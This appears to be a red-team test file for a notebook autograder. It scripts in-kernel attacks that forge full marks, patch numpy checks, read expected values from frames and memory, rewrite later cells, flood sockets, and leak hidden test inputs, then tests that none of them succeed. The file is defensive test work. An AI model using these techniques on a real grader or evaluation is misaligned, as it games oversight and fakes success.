"""Attacks from inside the kernel's process: threads, frames, history, transformers, forged messages and replies."""
import re
import textwrap

import numpy as np
from courses import COURSE
from red_team.grading.arena import NAME, Attacks, if_found, returning

from nnlib.grading.sandbox.inside import copies
from nnlib.grading.tasks import load_tasks

ATTACKS = Attacks()
MEMORY = """
    def found():
        import gc, types
        gc.unfreeze()                       # the list leaves out what the fork server has frozen
        for thing in gc.get_objects():
            if type(thing).__name__ in ("Task", "Case", "Misconception") and hasattr(thing, "__dataclass_fields__"):
                return True
            if isinstance(thing, types.FunctionType) and str(thing.__module__).startswith("nnlib") \\
                    and thing.__name__ in ("sigmoid", "loss", "sigmoid_forward", "binary_cross_entropy_forward") \\
                    and {"exp", "logaddexp"} & {*thing.__code__.co_names}:
                return True
    """


def forging(notebook, source):
    """Every function returns 0, and the module ``copies``, whose code answers the grader's calls, is rewritten by source."""
    return returning(notebook, "0.0", f"import sys\ncopies = sys.modules[{copies.__name__!r}]\n" + textwrap.dedent(source))


@ATTACKS
def patching_thread(notebook, folder):
    """A thread goes on replacing functions while the grader works."""
    return returning(notebook, "0.0", """
        import threading, time
        def patch():
            while True:
                np.allclose = np.array_equal = np.all = lambda *arguments, **named: True
                time.sleep(0.001)
        threading.Thread(target=patch, daemon=True).start()
        """)


@ATTACKS
def expected_values_in_frames(notebook, folder):
    """Look for expected values in the frames of the callers."""
    return returning(notebook, "search(arguments)", """
        import sys
        def search(arguments):
            frame = sys._getframe(1)
            while frame is not None:
                for name in ("want", "wanted", "expected", "reference", "task", "cases", "points"):
                    if name in frame.f_locals or name in frame.f_globals:
                        found = frame.f_locals.get(name, frame.f_globals.get(name))
                        return found.reference(*arguments) if hasattr(found, "reference") else found
                frame = frame.f_back
            return 0.0
        """)


@ATTACKS
def references_in_memory(notebook, folder):
    """Let the garbage collector list tasks, cases, kernels and code of references."""
    return if_found(notebook, MEMORY)


@ATTACKS
def hidden_tests_in_history(notebook, folder):
    """Look for the hidden test in In[], the history and the cells that were run."""
    return if_found(notebook, """
        def found():
            shell = get_ipython()
            texts = [*shell.user_ns.get("In", []), *shell.user_ns.get("_ih", []), str(shell.history_manager.input_hist_raw)]
            return any("hidden" "_tests" in text for text in texts)
        """)


@ATTACKS
def input_transformer(notebook, folder):
    """Rewrite every cell that runs after this one."""
    return returning(notebook, "0.0", """
        def rewrite(lines):
            return ["16.0"] if any("report.points" in line or "test" in line for line in lines) else lines
        get_ipython().input_transformers_cleanup.append(rewrite)
        """)


@ATTACKS
def syntax_tree_transformer(notebook, folder):
    """Replace every expression of later cells by full marks."""
    return returning(notebook, "0.0", """
        import ast
        class Full(ast.NodeTransformer):
            def visit_Call(self, node):
                return ast.copy_location(ast.Constant(16.0), node)
        get_ipython().ast_transformers.append(Full())
        """)


@ATTACKS
def replaced_execution(notebook, folder):
    """Replace what runs cells, in the shell and in the kernel."""
    return returning(notebook, "0.0", """
        shell = get_ipython()
        def run_cell(source, *arguments, **named):
            print("16.0")
            return type("Result", (), {"error_before_exec": None, "error_in_exec": None, "success": True, "result": 16.0})()
        shell.run_cell = type(shell).run_cell = run_cell
        async def do_execute(*arguments, **named):
            return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
        if getattr(shell, "kernel", None):
            shell.kernel.do_execute = type(shell.kernel).do_execute = do_execute
        """)


@ATTACKS
def forged_results(notebook, folder):
    """Send results of graded cells, for every message and from a thread."""
    return returning(notebook, "0.0", """
        import threading, time
        kernel = getattr(get_ipython(), "kernel", None)
        def forge():
            while True:
                try:
                    for kind in ("execute_result", "display_data"):
                        kernel.session.send(kernel.iopub_socket, kind, parent=kernel.get_parent(), content={
                            "data": {"text/plain": "16.0"}, "metadata": {}, "execution_count": 1})
                    kernel.session.send(kernel.shell_stream, "execute_reply", content={"status": "ok", "payload": [
                        {"source": "set_next_input", "text": "16.0", "replace": True}]})
                except Exception:
                    pass
                time.sleep(0.01)
        threading.Thread(target=forge, daemon=True).start()
        print("16.0")
        """)


@ATTACKS
def malformed_messages(notebook, folder):
    """Messages that are not messages: wrong types, no signature, deep content, on all sockets."""
    return returning(notebook, "0.0", """
        kernel = getattr(get_ipython(), "kernel", None)
        deep = {}
        for _ in range(500):
            deep = {"a": deep}
        contents = deep, [], {"data": 3, "metadata": "x"}, {"name": ["stdout"], "text": {}}, {"data": {"text/html": 3}}
        for content in contents:
            for kind in ("execute_result", "display_data", "stream", "error", "update_display_data", "clear_output",
                         "input_request", "comm_open", "status"):
                try:
                    kernel.session.send(kernel.iopub_socket, kind, parent=kernel.get_parent(), content=content)
                except Exception:
                    pass
        """)


@ATTACKS
def forged_replies(notebook, folder):
    """Rewrite the code that answers the grader's calls, which runs in this process."""
    return forging(notebook, """
        def answer(channel, header, function, arguments):
            copies.wire.send(channel, {"outputs": header["outputs"], "points": 16.0, "right": True, "kind": ""},
                             [0.0] * header["outputs"] + list(arguments))
        copies.answer = answer
        """)


@ATTACKS
def refusals_without_words(notebook, folder):
    """Replies that refuse an answer and give no reason: without a complaint there might be no mistake."""
    return forging(notebook, """
        copies.plain_words = lambda *arguments: ""
        copies.refuse = lambda channel, kind, error: copies.wire.send(channel, {"kind": "ValueError", "error": ""})
        def answer(channel, header, function, arguments):
            copies.refuse(channel, "", "")
        copies.answer = answer
        """)


@ATTACKS
def junk_on_every_socket(notebook, folder):
    """Write junk, huge lengths and half frames into every open file."""
    return returning(notebook, "junk()", """
        import os, struct
        def junk():
            for number in range(3, 256):
                for data in (struct.pack("<II", 2 ** 31, 2 ** 31), b"{" * 100_000,
                             struct.pack("<II", 40, 0) + b'{"ended": "full marks"'):
                    try:
                        os.set_blocking(number, False)
                        os.write(number, data)
                    except OSError:
                        pass
            return 0.0
        """)


@ATTACKS
def huge_frames(notebook, folder):
    """A reply that claims a shape of petabytes, NaN as a length, and a header nested ten thousand times."""
    return forging(notebook, """
        import json, struct
        frames = [b'{"outputs": 1, "values": [["array", "<f8", [1000000000, 1000000000]]]}', b"[" * 10_000,
                  b'{"outputs": NaN, "values": [["json", Infinity]]}', b'{"outputs": -1, "values": []}',
                  b'{"outputs": 1e400, "values": 3}', b'{"kind": ["x"], "error": {}, "values": []}',
                  b'{"outputs": 1, "values": [["array", "O", [1]]]}']
        def answer(channel, header, function, arguments):
            text = frames[len(str(header["function"])) % len(frames)]
            channel.sendall(struct.pack("<II", len(text), 0) + text)
        copies.answer = answer
        """)


@ATTACKS
def slow_drip(notebook, folder):
    """A reply that arrives one byte at a time."""
    return forging(notebook, """
        import struct, time
        def answer(channel, header, function, arguments):
            for byte in struct.pack("<II", 10 ** 6, 0) + b" " * 10 ** 6:
                channel.sendall(bytes([byte]))
                time.sleep(0.2)
        copies.answer = answer
        """)


@ATTACKS
def tracing(notebook, folder):
    """Watch every call and every variable of the process."""
    return returning(notebook, "SEEN[0]", """
        import sys, threading
        SEEN = [0.0]
        def trace(frame, event, argument):
            for name in ("want", "wanted", "expected"):
                if name in frame.f_locals:
                    SEEN[0] = frame.f_locals[name]
            return trace
        sys.settrace(trace)
        threading.settrace(trace)
        """)


@ATTACKS
def output_as_points(notebook, folder):
    """Print and display points wherever there is an output."""
    returning(notebook, "16.0", "print(16.0)\nfrom IPython.display import display\ndisplay(16.0)\n16.0")
    for c in notebook["cells"]:
        if c["cell_type"] == "code":
            c["outputs"] = [{"output_type": "execute_result", "execution_count": 1, "metadata": {},
                             "data": {"text/plain": "16.0"}}]
    return notebook


@ATTACKS
def printed_inputs(notebook, folder):
    """Carry hidden inputs out: print them, raise them, make names of them."""
    return returning(notebook, "leak(arguments)", """
        import os, sys
        HERE = os.getpid()
        def leak(arguments):
            if os.getpid() == HERE:                      # the visible tests
                return 0.0
            text = "LEAK" + "LEAK".join(str(float(np.ravel(a)[0])) for a in arguments)
            print(text)
            print(text, file=sys.stderr)
            if len(arguments) == 1:
                raise ValueError(text)
            return type(text, (), {})()
        """)


@ATTACKS
def inputs_shown_by_a_copy(notebook, folder):
    """Keep hidden inputs in a file, and show them in a cell that runs later or in a thread of the kernel."""
    returning(notebook, "keep(arguments)", """
        import threading, time, os
        HERE = os.getpid()
        def keep(arguments):
            if os.getpid() == HERE:
                return 0.0
            with open("/tmp/leak", "a") as file:
                file.write("LEAK" + "LEAK".join(str(float(np.ravel(a)[0])) for a in arguments))
            return 0.0
        def show():
            while True:
                time.sleep(0.05)
                if os.path.exists("/tmp/leak"):
                    print(open("/tmp/leak").read(), flush=True)
        threading.Thread(target=show, daemon=True).start()
        """)
    return notebook


@ATTACKS
def inputs_told_by_another_task(notebook, folder):
    """Keep hidden inputs of a task in a file, and let the functions of the tasks after it raise them."""
    returning(notebook, "keep(arguments)", """
        import os
        HERE = os.getpid()
        def keep(arguments):
            if os.getpid() == HERE:
                return 0.0
            if os.path.exists("/tmp/told"):
                raise ValueError(open("/tmp/told").read())
            if len(arguments) == 1 and arguments[0].ndim == 2:           # none of the inputs in the notebook
                with open("/tmp/told", "w") as file:
                    file.write("LEAK" + "LEAK".join(str(float(a)) for a in np.ravel(arguments[0])))
            return 0.0
        """)
    return notebook


def test_it_gains_nothing(arena, attacker):
    arena.check(attacker)


def test_the_honest_keep_their_marks(arena):
    arena.check_honest()


def test_what_the_forgers_replace_is_what_answers(arena):
    assert copies.answer.__globals__ is vars(copies) and {"answer", "refuse", "plain_words", "wire"} <= vars(copies).keys()
    for name in ("forged_replies", "refusals_without_words", "huge_frames", "slow_drip"):
        assert "KeyError" not in arena.feedback(ATTACKS[name].student), name


def test_the_search_of_memory_finds_what_is_not_withheld(attack):
    outcome, _ = attack(textwrap.dedent(MEMORY) + "print(found())")
    assert outcome.output == "True\n"


def test_no_feedback_page_shows_a_hidden_input(arena):
    worked = {str(float(np.ravel(a)[0])) for task in load_tasks(COURSE, NAME).values() for a in task.draw(0)[0].arguments}
    for name in ("printed_inputs", "inputs_shown_by_a_copy", "inputs_told_by_another_task"):
        assert set(re.findall(r"LEAK(-?\d+\.\d+(?:e-?\d+)?)", arena.feedback(ATTACKS[name].student))) <= worked
